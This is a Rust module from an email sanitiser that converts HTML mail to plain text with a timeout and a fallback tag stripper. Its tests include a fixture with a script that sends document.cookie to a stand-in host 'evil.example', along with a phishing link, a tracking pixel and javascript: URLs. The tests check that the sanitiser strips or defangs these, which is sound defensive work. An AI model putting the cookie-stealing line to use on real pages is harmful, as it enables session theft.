//! HTML to plain text, bounded in size and time.
//!
//! The converter is html2text 0.17 with CSS (so `display:none` in a `<style>` block or a
//! `style` attribute hides content, as it does in a mail client), the `hidden` attribute
//! honoured, tables without borders and followed by a blank line, lists with `・` bullets,
//! headings without Markdown `#` marks, images as their alt text, scripts, styles, `<head>`
//! and comments dropped. Links are read from html2text's rich annotations and written by the
//! link policy ([`super::links`]).
//!
//! html2text has been slow, and has hung, on pathological input, so it runs on a worker thread
//! with `sanitize.html_timeout`: when the time is up the thread is abandoned (it ends on its own
//! eventually; Rust cannot kill it) and the text comes from [`Stripper`] instead, a small
//! streaming tag stripper written here. Bodies larger than `sanitize.max_html_size` never reach
//! html2text: they stream through the stripper as they arrive. Either way the text is never
//! lost, and it still passes through the text normaliser afterwards.
//!
//! Charset: the Content-Type parameter, else a `<meta charset>` / `http-equiv` declaration in
//! the first KiB ([`meta_charset`]), else detection (in [`crate::mime::charset`]).

use std::sync::mpsc;
use std::sync::Arc;
use std::time::Duration;

use html2text::render::{RichAnnotation, RichDecorator, TaggedLineElement, TextDecorator};
use memchr::memmem;

use super::links;
use crate::config::LinkPolicy;

/// Column width of the converted text (CJK characters count two).
pub const WIDTH: usize = 78;

/// The line html2text writes before and after a table with `fence_tables`.
const TABLE_FENCE: &str = "```";

/// The list or quote prefix before a table fence, if `s` is one (a table inside a list item
/// or a quote gets the item's prefix).
fn fence_prefix(s: &str) -> Option<&str> {
    let p = s.strip_suffix(TABLE_FENCE)?;
    p.chars()
        .all(|c| c.is_whitespace() || matches!(c, '>' | '・' | '.' | '0'..='9'))
        .then_some(p)
}

/// How the text was obtained.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Method {
    /// html2text.
    Converter,
    /// The tag stripper, because the converter failed or timed out (the reason).
    Stripper(String),
}

/// The converted text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Converted {
    pub text: String,
    pub links_rewritten: u64,
    pub method: Method,
}

/// The charset declared by `<meta charset=...>` or `<meta http-equiv=... content="...;
/// charset=...">` in the first KiB of `head`.
pub fn meta_charset(head: &[u8]) -> Option<String> {
    let head = &head[..head.len().min(1024)];
    let lower: Vec<u8> = head.iter().map(u8::to_ascii_lowercase).collect();
    let mut from = 0;
    while let Some(i) = memmem::find(&lower[from..], b"<meta").map(|i| i + from) {
        let end = memchr::memchr(b'>', &lower[i..]).map_or(lower.len(), |e| i + e);
        let tag = &lower[i..end];
        if let Some(c) = memmem::find(tag, b"charset") {
            let rest = &tag[c + 7..];
            let rest = rest.strip_prefix(b" ").unwrap_or(rest);
            if let Some(rest) = rest.strip_prefix(b"=") {
                let rest: &[u8] = {
                    let p = rest
                        .iter()
                        .position(|b| !b" \"'".contains(b))
                        .unwrap_or(rest.len());
                    &rest[p..]
                };
                let n = rest
                    .iter()
                    .position(|b| !(b.is_ascii_alphanumeric() || b"-_.:".contains(b)))
                    .unwrap_or(rest.len());
                if n > 0 {
                    return Some(String::from_utf8_lossy(&rest[..n]).into_owned());
                }
            }
        }
        from = end;
    }
    None
}

/// Converts HTML (already decoded to UTF-8) with html2text on a worker thread, falling back
/// to the [`Stripper`] on error, panic or timeout.
pub fn convert(html: String, links: LinkPolicy, timeout: Duration) -> Converted {
    // html2text's time grows about with the cube of the nesting depth (40,000 nested <div>:
    // 10 s; 100,000: minutes). A timed-out converter thread cannot be stopped and keeps a core
    // busy, so deeply nested HTML goes to the stripper without ever reaching the converter.
    if nesting_exceeds(&html, MAX_CONVERTER_DEPTH) {
        let mut s = Stripper::new(links);
        let mut text = String::new();
        s.push(&html, &mut text);
        s.finish(&mut text);
        return Converted {
            text,
            links_rewritten: s.links_rewritten(),
            method: Method::Stripper(format!("elements nested deeper than {MAX_CONVERTER_DEPTH}")),
        };
    }
    let html: Arc<str> = Arc::from(html);
    let (tx, rx) = mpsc::channel();
    let worker_html = Arc::clone(&html);
    let spawned = std::thread::Builder::new()
        .name("mugaika-html".into())
        .spawn(move || {
            let r = std::panic::catch_unwind(|| render_rich(&worker_html, links));
            // The receiver may have given up (timeout): nothing to do then.
            let _ = tx.send(r);
        });
    let reason = match spawned {
        Err(e) => format!("converter thread could not start: {e}"),
        Ok(_) => match rx.recv_timeout(timeout) {
            Ok(Ok(Ok((text, links_rewritten)))) => {
                return Converted {
                    text,
                    links_rewritten,
                    method: Method::Converter,
                }
            }
            Ok(Ok(Err(e))) => format!("converter failed: {e}"),
            Ok(Err(_)) => "converter panicked".to_string(),
            Err(_) => format!("converter timed out after {timeout:?}"),
        },
    };
    let mut s = Stripper::new(links);
    let mut text = String::new();
    s.push(&html, &mut text);
    s.finish(&mut text);
    Converted {
        text,
        links_rewritten: s.links_rewritten(),
        method: Method::Stripper(reason),
    }
}

/// Deepest element nesting handed to html2text (real mail stays far below 100).
const MAX_CONVERTER_DEPTH: usize = 1000;

/// True when the elements of `html` nest deeper than `limit`, counted cheaply from the tags:
/// void elements, self-closing tags and the elements whose end tag is usually omitted (p, li,
/// td, ...) do not count, so ordinary sloppy HTML is never mistaken for a nesting bomb.
fn nesting_exceeds(html: &str, limit: usize) -> bool {
    const UNCOUNTED: &[&str] = &[
        "area", "base", "br", "col", "colgroup", "dd", "dt", "embed", "hr", "img", "input", "li",
        "link", "meta", "option", "p", "param", "source", "tbody", "td", "tfoot", "th", "thead",
        "tr", "track", "wbr",
    ];
    let b = html.as_bytes();
    let mut depth = 0usize;
    let mut i = 0;
    while let Some(off) = memchr::memchr(b'<', &b[i..]) {
        let start = i + off + 1;
        let Some(&first) = b.get(start) else { break };
        let end = memchr::memchr(b'>', &b[start..]).map_or(b.len(), |e| start + e);
        if first == b'/' {
            depth = depth.saturating_sub(1);
        } else if first.is_ascii_alphabetic() && b.get(end.saturating_sub(1)) != Some(&b'/') {
            let name_len = b[start..end]
                .iter()
                .position(|c| !c.is_ascii_alphanumeric())
                .unwrap_or(end - start);
            let name = html[start..start + name_len].to_ascii_lowercase();
            if !UNCOUNTED.contains(&name.as_str()) {
                depth += 1;
                if depth > limit {
                    return true;
                }
            }
        }
        i = end.min(b.len());
    }
    false
}

/// html2text with rich annotations; links written by the policy. Returns the text and the
/// number of links rewritten.
pub fn render_rich(html: &str, policy: LinkPolicy) -> Result<(String, u64), html2text::Error> {
    let cfg = html2text::config::with_decorator(MailDecorator(RichDecorator::new()))
        .use_doc_css()
        .add_agent_css("[hidden] { display: none; }")?
        .no_table_borders()
        .fence_tables()
        .allow_width_overflow();
    let lines = cfg.lines_from_read(html.as_bytes(), WIDTH)?;
    let mut out: Vec<String> = Vec::with_capacity(lines.len());
    let mut count = 0u64;
    // The link being written: its target and its text so far.
    let mut current: Option<(String, String)> = None;
    // Tables are fenced (`fence_tables`) only so that their end can be found: the fences are
    // dropped, and a blank line follows the table, as in a browser (html2text would run the
    // next list straight into the last row).
    let mut in_table = false;
    for line in lines {
        let mut cur = String::new();
        let mut first = true;
        let mut fence = false;
        for el in line.iter() {
            let TaggedLineElement::Str(ts) = el else {
                continue;
            };
            let pre = ts
                .tag
                .iter()
                .any(|a| matches!(a, RichAnnotation::Preformat(_)));
            if let Some(prefix) = fence_prefix(&ts.s).filter(|_| !pre) {
                fence = true;
                cur.push_str(prefix);
                continue;
            }
            let href = ts.tag.iter().rev().find_map(|a| match a {
                RichAnnotation::Link(u) => Some(u.as_str()),
                _ => None,
            });
            let same = match (&current, href) {
                (Some((c, _)), Some(h)) => c == h,
                (None, None) => true,
                _ => false,
            };
            if !same {
                if let Some((target, text)) = current.take() {
                    let (suffix, counted) = links::link_suffix(&text, &target, policy);
                    count += u64::from(counted);
                    // A link ending at a line start belongs to the previous text line.
                    let dst = if first {
                        out.iter_mut().rev().find(|l| !l.is_empty())
                    } else {
                        Some(&mut cur)
                    };
                    if let Some(d) = dst {
                        d.push_str(&suffix);
                    } else {
                        cur.push_str(&suffix);
                    }
                }
                if let Some(h) = href {
                    current = Some((h.to_string(), String::new()));
                }
            }
            if let Some((_, text)) = current.as_mut() {
                if text.len() < 1024 {
                    if !text.is_empty() && first {
                        text.push(' ');
                    }
                    text.push_str(&ts.s);
                }
            }
            cur.push_str(&ts.s);
            first = false;
        }
        let cur = cur.trim_end().to_string();
        if fence {
            in_table = !in_table;
            if cur.trim().is_empty() {
                if !in_table {
                    out.push(String::new());
                }
                continue;
            }
        }
        out.push(cur);
    }
    if let Some((target, text)) = current.take() {
        let (suffix, counted) = links::link_suffix(&text, &target, policy);
        count += u64::from(counted);
        if let Some(last) = out.iter_mut().rev().find(|l| !l.is_empty()) {
            last.push_str(&suffix);
        }
    }
    // At most one empty line in a row; none at the start or the end.
    let mut text = String::new();
    let mut blank = true;
    for l in &out {
        if l.is_empty() {
            if !blank {
                text.push('\n');
            }
            blank = true;
        } else {
            text.push_str(l);
            text.push('\n');
            blank = false;
        }
    }
    while text.ends_with("\n\n") {
        text.pop();
    }
    Ok((text, count))
}

/// html2text's rich decorator without its Markdown-like marks, for text that people read in a
/// mail client: no `#` before headings, `・` instead of `* ` before list items, no `^{...}`
/// around superscripts (emphasis and links carry no marks in the rich decorator already;
/// quotes keep `> `, ordered items `1. `). The annotations stay, so links are still found.
#[derive(Clone, Debug)]
struct MailDecorator(RichDecorator);

impl TextDecorator for MailDecorator {
    type Annotation = RichAnnotation;

    fn decorate_link_start(&mut self, url: &str) -> (String, RichAnnotation) {
        self.0.decorate_link_start(url)
    }
    fn decorate_link_end(&mut self) -> String {
        self.0.decorate_link_end()
    }
    fn decorate_em_start(&self) -> (String, RichAnnotation) {
        self.0.decorate_em_start()
    }
    fn decorate_em_end(&self) -> String {
        self.0.decorate_em_end()
    }
    fn decorate_strong_start(&self) -> (String, RichAnnotation) {
        self.0.decorate_strong_start()
    }
    fn decorate_strong_end(&self) -> String {
        self.0.decorate_strong_end()
    }
    fn decorate_strikeout_start(&self) -> (String, RichAnnotation) {
        self.0.decorate_strikeout_start()
    }
    fn decorate_strikeout_end(&self) -> String {
        self.0.decorate_strikeout_end()
    }
    fn decorate_code_start(&self) -> (String, RichAnnotation) {
        self.0.decorate_code_start()
    }
    fn decorate_code_end(&self) -> String {
        self.0.decorate_code_end()
    }
    fn decorate_preformat_first(&self) -> RichAnnotation {
        self.0.decorate_preformat_first()
    }
    fn decorate_preformat_cont(&self) -> RichAnnotation {
        self.0.decorate_preformat_cont()
    }
    fn decorate_image(&mut self, src: &str, title: &str) -> (String, RichAnnotation) {
        self.0.decorate_image(src, title)
    }
    fn decorate_superscript_start(&self) -> (String, RichAnnotation) {
        (String::new(), RichAnnotation::Default)
    }
    fn decorate_superscript_end(&self) -> String {
        String::new()
    }
    fn header_prefix(&self, _level: usize) -> String {
        String::new()
    }
    fn quote_prefix(&self) -> String {
        self.0.quote_prefix()
    }
    fn unordered_item_prefix(&self) -> String {
        "・".to_string()
    }
    fn ordered_item_prefix(&self, i: i64) -> String {
        self.0.ordered_item_prefix(i)
    }
    fn make_subblock_decorator(&self) -> Self {
        MailDecorator(self.0.make_subblock_decorator())
    }
    fn push_colour(&mut self, c: html2text::Colour) -> Option<RichAnnotation> {
        self.0.push_colour(c)
    }
    fn pop_colour(&mut self) -> bool {
        self.0.pop_colour()
    }
    fn push_bgcolour(&mut self, c: html2text::Colour) -> Option<RichAnnotation> {
        self.0.push_bgcolour(c)
    }
    fn pop_bgcolour(&mut self) -> bool {
        self.0.pop_bgcolour()
    }
}

/// Elements whose content is never text for the reader.
const SKIP: &[&str] = &[
    "script", "style", "head", "title", "template", "svg", "math", "object", "applet", "iframe",
    "frameset", "noembed", "select", "textarea",
];
/// Elements without content (no closing tag to wait for).
const VOID: &[&str] = &[
    "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source",
    "track", "wbr",
];
const PARAGRAPH: &[&str] = &[
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "blockquote",
    "ul",
    "ol",
    "dl",
    "pre",
    "hr",
    "section",
    "article",
    "header",
    "footer",
    "address",
    "center",
    "figure",
];
const LINE: &[&str] = &[
    "br", "div", "tr", "li", "dt", "dd", "form", "caption", "nav", "main",
];

/// Longest tag collected; the rest of a longer tag is ignored (its `>` still ends it).
const MAX_TAG: usize = 8 * 1024;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum SState {
    Text,
    /// After `<`, collecting the tag; the quote character we are inside, if any.
    Tag(Option<char>),
    Comment,
    Entity,
}

/// A streaming tag stripper: HTML in pieces of any size, plain text out. Drops script, style,
/// head and the like, comments and hidden elements; decodes entities; turns block elements
/// into line breaks; writes links by the policy and images as their alt text.
#[derive(Debug)]
pub struct Stripper {
    policy: LinkPolicy,
    state: SState,
    buf: String,
    /// Skipping content until this element closes (name, nesting).
    skip: Option<(String, usize)>,
    /// The open link: target and text.
    link: Option<(String, String)>,
    space: bool,
    line_start: bool,
    newlines: usize,
    pre: usize,
    links_rewritten: u64,
}

impl Stripper {
    pub fn new(policy: LinkPolicy) -> Stripper {
        Stripper {
            policy,
            state: SState::Text,
            buf: String::new(),
            skip: None,
            link: None,
            space: false,
            line_start: true,
            newlines: 2,
            pre: 0,
            links_rewritten: 0,
        }
    }

    pub fn links_rewritten(&self) -> u64 {
        self.links_rewritten
    }

    /// Strips `s`, appending text to `out`.
    pub fn push(&mut self, s: &str, out: &mut String) {
        for c in s.chars() {
            self.char(c, out);
        }
    }

    /// Ends the input: closes an open link, ends the last line.
    pub fn finish(&mut self, out: &mut String) {
        match self.state {
            SState::Entity => {
                let b = std::mem::take(&mut self.buf);
                self.text_char('&', out);
                for c in b.chars() {
                    self.text_char(c, out);
                }
            }
            SState::Tag(_) | SState::Comment | SState::Text => {}
        }
        self.state = SState::Text;
        self.close_link(out);
        if !self.line_start {
            out.push('\n');
            self.line_start = true;
        }
    }

    fn char(&mut self, c: char, out: &mut String) {
        match self.state {
            SState::Text => match c {
                '<' => {
                    self.state = SState::Tag(None);
                    self.buf.clear();
                }
                '&' if self.skip.is_none() => {
                    self.state = SState::Entity;
                    self.buf.clear();
                }
                _ => self.text_char(c, out),
            },
            SState::Tag(quote) => {
                // `<` not followed by a tag start is text ("a < b").
                if self.buf.is_empty() && !(c.is_ascii_alphabetic() || "/!?".contains(c)) {
                    self.state = SState::Text;
                    self.text_char('<', out);
                    self.char(c, out);
                    return;
                }
                match (quote, c) {
                    (None, '>') => {
                        self.state = SState::Text;
                        let tag = std::mem::take(&mut self.buf);
                        self.tag(&tag, out);
                        self.buf = tag;
                        self.buf.clear();
                        return;
                    }
                    (None, '"' | '\'') if self.buf.contains('=') => {
                        self.state = SState::Tag(Some(c));
                    }
                    (Some(q), _) if q == c => self.state = SState::Tag(None),
                    _ => {}
                }
                if self.buf.len() < MAX_TAG {
                    self.buf.push(c);
                }
                if self.buf == "!--" {
                    self.state = SState::Comment;
                    self.buf.clear();
                }
            }
            SState::Comment => {
                self.buf.push(c);
                if self.buf.ends_with("-->") {
                    self.state = SState::Text;
                    self.buf.clear();
                } else if self.buf.len() > 8 {
                    let keep = self.buf.len() - 2;
                    let mut k = keep;
                    while !self.buf.is_char_boundary(k) {
                        k -= 1;
                    }
                    self.buf.drain(..k);
                }
            }
            SState::Entity => {
                if c == ';' {
                    self.state = SState::Text;
                    let name = std::mem::take(&mut self.buf);
                    match decode_entity(&name) {
                        Some(Some(ch)) => self.text_char(ch, out),
                        Some(None) => {}
                        None => {
                            self.text_char('&', out);
                            for ch in name.chars() {
                                self.text_char(ch, out);
                            }
                            self.text_char(';', out);
                        }
                    }
                } else if (c.is_ascii_alphanumeric() || c == '#') && self.buf.len() < 32 {
                    self.buf.push(c);
                } else {
                    self.state = SState::Text;
                    let name = std::mem::take(&mut self.buf);
                    // Legacy entities without `;` (`&nbsp` `&amp`) are common in mail.
                    match decode_entity(&name) {
                        Some(Some(ch)) => self.text_char(ch, out),
                        Some(None) => {}
                        None => {
                            self.text_char('&', out);
                            for ch in name.chars() {
                                self.text_char(ch, out);
                            }
                        }
                    }
                    self.char(c, out);
                }
            }
        }
    }

    fn text_char(&mut self, c: char, out: &mut String) {
        if self.skip.is_some() {
            return;
        }
        if c.is_whitespace() && c != '\u{3000}' {
            if self.pre > 0 {
                if c == '\n' {
                    self.newline(out);
                } else {
                    self.push_visible(c, out);
                }
                return;
            }
            self.space = true;
            return;
        }
        if self.space && !self.line_start {
            self.push_visible(' ', out);
        }
        self.space = false;
        self.push_visible(c, out);
    }

    fn push_visible(&mut self, c: char, out: &mut String) {
        out.push(c);
        self.line_start = false;
        self.newlines = 0;
        if let Some((_, text)) = self.link.as_mut() {
            if text.len() < 1024 {
                text.push(c);
            }
        }
    }

    fn newline(&mut self, out: &mut String) {
        if self.newlines < 1 {
            out.push('\n');
            self.newlines += 1;
        }
        self.line_start = true;
        self.space = false;
    }

    fn paragraph(&mut self, out: &mut String) {
        while self.newlines < 2 {
            out.push('\n');
            self.newlines += 1;
        }
        self.line_start = true;
        self.space = false;
    }

    fn close_link(&mut self, out: &mut String) {
        if let Some((target, text)) = self.link.take() {
            let (suffix, counted) = links::link_suffix(&text, &target, self.policy);
            self.links_rewritten += u64::from(counted);
            if !suffix.is_empty() {
                for c in suffix.chars() {
                    self.push_visible(c, out);
                }
            }
        }
    }

    fn tag(&mut self, tag: &str, out: &mut String) {
        if tag.starts_with('!') || tag.starts_with('?') {
            return;
        }
        let closing = tag.starts_with('/');
        let body = tag.trim_start_matches('/');
        let name_end = body
            .find(|c: char| c.is_whitespace() || c == '/' || c == '>')
            .unwrap_or(body.len());
        let name = body[..name_end].to_ascii_lowercase();
        let attrs = &body[name_end..];
        let self_closing = attrs.trim_end().ends_with('/');
        if let Some((skip, depth)) = self.skip.as_mut() {
            if *skip == name {
                if closing {
                    *depth -= 1;
                    if *depth == 0 {
                        self.skip = None;
                    }
                } else if !self_closing {
                    *depth += 1;
                }
            }
            return;
        }
        let is_void = VOID.contains(&name.as_str());
        if !closing && !is_void && !self_closing {
            let hidden = SKIP.contains(&name.as_str()) || is_hidden(attrs);
            if hidden {
                self.skip = Some((name, 1));
                return;
            }
        }
        if PARAGRAPH.contains(&name.as_str()) {
            self.paragraph(out);
        } else if LINE.contains(&name.as_str()) {
            self.newline(out);
        }
        match (name.as_str(), closing) {
            ("li", false) => {
                for c in "* ".chars() {
                    self.push_visible(c, out);
                }
            }
            ("td" | "th", _) => self.space = true,
            ("pre", false) => self.pre += 1,
            ("pre", true) => self.pre = self.pre.saturating_sub(1),
            ("a", false) => {
                self.close_link(out);
                if let Some(href) = attr(attrs, "href") {
                    self.link = Some((href, String::new()));
                }
            }
            ("a", true) => self.close_link(out),
            ("img", false) => {
                if let Some(alt) = attr(attrs, "alt") {
                    for c in alt.chars() {
                        self.text_char(c, out);
                    }
                }
            }
            _ => {}
        }
    }
}

/// `hidden` attribute, or `display:none` / `visibility:hidden` in the style attribute.
fn is_hidden(attrs: &str) -> bool {
    if attr(attrs, "hidden").is_some() {
        return true;
    }
    match attr(attrs, "style") {
        Some(style) => {
            let s: String = style
                .chars()
                .filter(|c| !c.is_whitespace())
                .collect::<String>()
                .to_ascii_lowercase();
            s.contains("display:none") || s.contains("visibility:hidden")
        }
        None => false,
    }
}

/// The value of attribute `name` (entities decoded), or `Some("")` for a bare attribute.
fn attr(attrs: &str, name: &str) -> Option<String> {
    let b = attrs.as_bytes();
    let mut i = 0;
    while i < b.len() {
        while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'/') {
            i += 1;
        }
        let start = i;
        while i < b.len() && !b[i].is_ascii_whitespace() && b[i] != b'=' && b[i] != b'/' {
            i += 1;
        }
        let key = &attrs[start..i];
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        let mut value = None;
        if i < b.len() && b[i] == b'=' {
            i += 1;
            while i < b.len() && b[i].is_ascii_whitespace() {
                i += 1;
            }
            if i < b.len() && (b[i] == b'"' || b[i] == b'\'') {
                let q = b[i];
                let vs = i + 1;
                let ve = memchr::memchr(q, &b[vs..]).map_or(b.len(), |e| vs + e);
                value = Some(&attrs[vs..ve]);
                i = (ve + 1).min(b.len());
            } else {
                let vs = i;
                while i < b.len() && !b[i].is_ascii_whitespace() {
                    i += 1;
                }
                value = Some(&attrs[vs..i]);
            }
        }
        if key.eq_ignore_ascii_case(name) {
            return Some(decode_entities(value.unwrap_or("")));
        }
        if key.is_empty() && value.is_none() {
            i += 1;
        }
    }
    None
}

fn decode_entities(s: &str) -> String {
    if !s.contains('&') {
        return s.to_string();
    }
    let mut out = String::new();
    let mut rest = s;
    while let Some(i) = rest.find('&') {
        out.push_str(&rest[..i]);
        let after = &rest[i + 1..];
        let end = after
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '#'))
            .unwrap_or(after.len());
        match decode_entity(&after[..end]) {
            Some(Some(c)) => {
                out.push(c);
                rest = after[end..].strip_prefix(';').unwrap_or(&after[end..]);
            }
            _ => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// `Some(Some(c))`: the character; `Some(None)`: a valid reference to nothing worth showing
/// (NUL); `None`: not an entity we know.
fn decode_entity(name: &str) -> Option<Option<char>> {
    if let Some(num) = name.strip_prefix('#') {
        let v = if let Some(hex) = num.strip_prefix(['x', 'X']) {
            u32::from_str_radix(hex, 16).ok()?
        } else {
            num.parse::<u32>().ok()?
        };
        if v == 0 {
            return Some(None);
        }
        return Some(Some(char::from_u32(v).unwrap_or('\u{FFFD}')));
    }
    let c = match name {
        "amp" | "AMP" => '&',
        "lt" | "LT" => '<',
        "gt" | "GT" => '>',
        "quot" | "QUOT" => '"',
        "apos" => '\'',
        "nbsp" => ' ',
        "ensp" | "emsp" | "thinsp" => ' ',
        "copy" => '©',
        "reg" => '®',
        "trade" => '™',
        "yen" => '¥',
        "euro" => '€',
        "pound" => '£',
        "cent" => '¢',
        "middot" => '·',
        "bull" => '•',
        "hellip" => '…',
        "mdash" => '—',
        "ndash" => '–',
        "laquo" => '«',
        "raquo" => '»',
        "lsquo" => '‘',
        "rsquo" => '’',
        "ldquo" => '“',
        "rdquo" => '”',
        "times" => '×',
        "divide" => '÷',
        "deg" => '°',
        "plusmn" => '±',
        "sect" => '§',
        "para" => '¶',
        "larr" => '←',
        "rarr" => '→',
        "uarr" => '↑',
        "darr" => '↓',
        "zwj" | "zwnj" | "shy" | "lrm" | "rlm" => return Some(None),
        _ => return None,
    };
    Some(Some(c))
}

#[cfg(test)]
mod tests {
    use super::*;

    const NEWSLETTER: &str = r#"<html><head><title>T</title><style>td{font-size:12px} .x{display:none}</style>
<script>document.location='http://evil.example/'+document.cookie</script></head>
<body onload="alert(1)"><h1>お知らせ</h1>
<p>市民の皆様へ。<a href='http://phish.example/login'>こちらからログイン</a>してください。</p>
<!-- secret comment -->
<div class="x">hidden by class</div><p hidden>hidden attribute</p><span style="display: none">inline hidden</span>
<img src='cid:logo@x' alt='市のロゴ'><img src='http://tracker.example/p.gif?u=42' width=1 height=1>
<table><tr><td>1</td><td>住民票</td></tr><tr><td>2</td><td>印鑑証明</td></tr></table>
<ul><li>項目一</li><li>項目二</li></ul>
</body></html>"#;

    fn check_common(t: &str) {
        assert!(t.contains("お知らせ"), "{t}");
        assert!(t.contains("市民の皆様へ。"), "{t}");
        assert!(t.contains("こちらからログイン"), "{t}");
        assert!(t.contains("住民票") && t.contains("印鑑証明"), "{t}");
        assert!(t.contains("項目一") && t.contains("項目二"), "{t}");
        assert!(t.contains("市のロゴ"), "{t}");
        for bad in [
            "document.location",
            "evil.example",
            "secret comment",
            "hidden attribute",
            "inline hidden",
            "font-size",
            "tracker.example",
            "alert",
        ] {
            assert!(!t.contains(bad), "{bad:?} in {t}");
        }
    }

    #[test]
    fn converter_drops_active_and_hidden_content() {
        let (t, n) = render_rich(NEWSLETTER, LinkPolicy::Show).unwrap();
        check_common(&t);
        assert!(!t.contains("hidden by class"), "{t}");
        assert!(
            t.contains("こちらからログイン [http://phish.example/login]"),
            "{t}"
        );
        assert_eq!(n, 1);
        // Table cells on one line, list items on their own lines.
        assert!(
            t.lines().any(|l| l.contains('1') && l.contains("住民票")),
            "{t}"
        );
        assert!(
            t.lines()
                .any(|l| l.contains("項目一") && !l.contains("項目二")),
            "{t}"
        );
    }

    const LAYOUT: &str = "<h1>見出し</h1><p>本文 <strong>強調</strong> <em>斜体</em> x<sup>note</sup> m<sup>2</sup></p><h2>小見出し</h2><ul><li>項目一</li><li>項目二</li></ul><h3>表</h3><table><tr><th>日程</th><th>会場</th></tr><tr><td>12月3日</td><td>東京</td></tr></table><ol><li>申込</li><li>資料</li></ol><table><tr><td>a</td></tr></table><p>後</p><blockquote>引用</blockquote><pre>```\ncode\n```</pre>";

    #[test]
    fn converter_writes_plain_text_layout() {
        let (t, _) = render_rich(LAYOUT, LinkPolicy::Show).unwrap();
        assert_eq!(
            t,
            "見出し\n\n本文 強調 斜体 xnote m²\n\n小見出し\n・項目一\n・項目二\n\n表\n\n日程    会場\n12月3日 東京\n\n1. 申込\n2. 資料\n\na\n\n後\n\n> 引用\n\n```\ncode\n```\n"
        );
        // A table inside a list item, and a list right after a table in a cell.
        let (t, _) = render_rich(
            "<ul><li><table><tr><td>x</td><td>y</td></tr></table></li></ul><table><tr><td><table><tr><td>in</td></tr></table></td></tr></table><ul><li>next</li></ul>",
            LinkPolicy::Show,
        )
        .unwrap();
        assert!(!t.contains("```"), "{t}");
        assert!(t.contains("in\n\n・next"), "{t}");
    }

    #[test]
    fn converter_link_policies() {
        let html = "<p>See <a href=\"https://www.example.jp/a?b=1\">the page</a> now.</p>";
        let r = |p| render_rich(html, p).unwrap().0;
        assert_eq!(
            r(LinkPolicy::Keep),
            "See the page <https://www.example.jp/a?b=1> now.\n"
        );
        assert_eq!(
            r(LinkPolicy::Show),
            "See the page [https://www.example.jp/a?b=1] now.\n"
        );
        assert_eq!(
            r(LinkPolicy::Defang),
            "See the page [hxxps://www[.]example[.]jp/a?b=1] now.\n"
        );
        assert_eq!(r(LinkPolicy::Remove), "See the page now.\n");
        let js = "<a href=\"javascript:alert(1)\">click</a> <a href='data:text/html;base64,PHNjcmlwdD4='>x</a>";
        let t = render_rich(js, LinkPolicy::Show).unwrap().0;
        assert!(!t.contains("javascript") && !t.contains("data:"), "{t}");
        // A link ending a paragraph keeps its target on its own line.
        let t = render_rich(
            "<p>a <a href=\"https://b.example/\">b</a></p><table><tr><td>1</td></tr></table>",
            LinkPolicy::Show,
        )
        .unwrap()
        .0;
        assert!(t.starts_with("a b [https://b.example/]\n"), "{t}");
        // A link wrapped over two lines gets its target once, after its end.
        let long = format!(
            "<p><a href=\"https://a.example/\">{}</a> tail</p>",
            "word ".repeat(30)
        );
        let t = render_rich(&long, LinkPolicy::Show).unwrap().0;
        assert_eq!(t.matches("[https://a.example/]").count(), 1, "{t}");
        assert!(t.contains("word [https://a.example/]"), "{t}");
    }

    #[test]
    fn stripper_drops_active_and_hidden_content() {
        let mut s = Stripper::new(LinkPolicy::Show);
        let mut t = String::new();
        s.push(NEWSLETTER, &mut t);
        s.finish(&mut t);
        check_common(&t);
        assert!(
            t.contains("こちらからログイン [http://phish.example/login]"),
            "{t}"
        );
        assert_eq!(s.links_rewritten(), 1);
        // Same result whatever the split.
        for size in [1, 2, 7, 64] {
            let mut s2 = Stripper::new(LinkPolicy::Show);
            let mut t2 = String::new();
            let chars: Vec<char> = NEWSLETTER.chars().collect();
            for piece in chars.chunks(size) {
                let p: String = piece.iter().collect();
                s2.push(&p, &mut t2);
            }
            s2.finish(&mut t2);
            assert_eq!(t2, t, "chunk {size}");
        }
    }

    #[test]
    fn stripper_entities_and_edge_cases() {
        let mut s = Stripper::new(LinkPolicy::Remove);
        let mut t = String::new();
        s.push("a &lt; b &amp;&amp; c &gt; d &#x3042;&#12356; &nbsp;x &unknown; 3 < 4 &copy <b>bold</b><br>next", &mut t);
        s.push(
            "<p>para<script>x<script>nested</script>still</script>after</p><a href=x>l</a>",
            &mut t,
        );
        s.finish(&mut t);
        assert_eq!(
            t,
            "a < b && c > d あい x &unknown; 3 < 4 © bold\nnext\n\nparaafter\n\nl\n"
        );
        // An unterminated comment swallows the rest; an unterminated tag too.
        let mut s = Stripper::new(LinkPolicy::Show);
        let mut t = String::new();
        s.push("x<!-- never ends <b>y</b>", &mut t);
        s.finish(&mut t);
        assert_eq!(t, "x\n");
    }

    #[test]
    fn meta_charsets() {
        assert_eq!(
            meta_charset(b"<html><head><meta charset=\"Shift_JIS\">").as_deref(),
            Some("shift_jis")
        );
        assert_eq!(
            meta_charset(
                b"<META http-equiv=\"Content-Type\" content=\"text/html; charset=iso-2022-jp\">"
            )
            .as_deref(),
            Some("iso-2022-jp")
        );
        assert_eq!(meta_charset(b"<meta name=x><p>charset=utf-8</p>"), None);
        assert_eq!(meta_charset(b"no html"), None);
    }

    #[test]
    fn deep_nesting_goes_to_the_stripper_at_once() {
        let deep = format!(
            "{}deep text{}",
            "<div>".repeat(100_000),
            "</div>".repeat(100_000)
        );
        let t = std::time::Instant::now();
        let c = convert(deep, LinkPolicy::Show, Duration::from_secs(30));
        assert!(matches!(c.method, Method::Stripper(_)), "{:?}", c.method);
        assert!(c.text.contains("deep text"));
        assert!(t.elapsed() < Duration::from_secs(2), "{:?}", t.elapsed());
        // Ordinary sloppy HTML (unclosed paragraphs and list items) still gets the converter.
        let sloppy = "<ul>".to_string() + &"<li><p>item".repeat(5000) + "</ul>";
        assert!(!nesting_exceeds(&sloppy, MAX_CONVERTER_DEPTH));
        let nested = "<div>".repeat(1001);
        assert!(nesting_exceeds(&nested, MAX_CONVERTER_DEPTH));
        assert!(!nesting_exceeds(
            &"<div></div>".repeat(5000),
            MAX_CONVERTER_DEPTH
        ));
    }

    #[test]
    fn timeout_falls_back_to_the_stripper() {
